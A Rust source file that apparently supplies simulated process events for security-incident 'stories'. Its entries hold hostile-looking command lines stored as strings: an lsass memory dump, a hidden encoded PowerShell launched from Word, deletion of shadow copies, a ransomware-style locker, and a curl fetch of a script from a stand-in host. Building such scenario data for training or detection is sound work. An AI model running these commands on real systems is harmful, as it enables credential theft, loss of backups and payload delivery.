//! Programs that play a part in the stories.

/// A program seen in a story.
#[derive(Debug)]
pub(crate) struct Program {
    pub(crate) file: &'static str,
    pub(crate) folder: &'static str,
    pub(crate) command: &'static str,
    pub(crate) parent: &'static str,
}

/// Programs by index. `{account}` is filled in.
pub(crate) const PROGRAMS: &[Program] = &[
    Program {
        file: "pd64.exe",
        folder: "C:\\Users\\{account}\\AppData\\Local\\Temp",
        command: "pd64.exe -ma lsass.exe out.bin",
        parent: "cmd.exe",
    },
    Program {
        file: "powershell.exe",
        folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        command: "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBEAGUAbQBvAA==",
        parent: "winword.exe",
    },
    Program {
        file: "vssadmin.exe",
        folder: "C:\\Windows\\System32",
        command: "vssadmin.exe delete shadows /all /quiet",
        parent: "lockdemo.exe",
    },
    Program {
        file: "lockdemo.exe",
        folder: "C:\\ProgramData\\Updater",
        command: "\"C:\\ProgramData\\Updater\\lockdemo.exe\" --path D:\\Shares --threads 8",
        parent: "services.exe",
    },
    Program {
        file: "rundll32.exe",
        folder: "C:\\Windows\\System32",
        command: "rundll32.exe C:\\Users\\{account}\\AppData\\Roaming\\kestrel.dll,Start",
        parent: "explorer.exe",
    },
    Program {
        file: "invoice-viewer.exe",
        folder: "C:\\Users\\{account}\\Downloads",
        command: "\"C:\\Users\\{account}\\Downloads\\invoice-viewer.exe\" /s",
        parent: "explorer.exe",
    },
    Program {
        file: "curl",
        folder: "/usr/bin",
        command: "curl -fsSL https://cdn.brightpath.example/run.sh -o /tmp/.run",
        parent: "bash",
    },
    Program { file: "Payroll-2026.xlsx", folder: "D:\\Shares\\Finance", command: "", parent: "explorer.exe" },
];
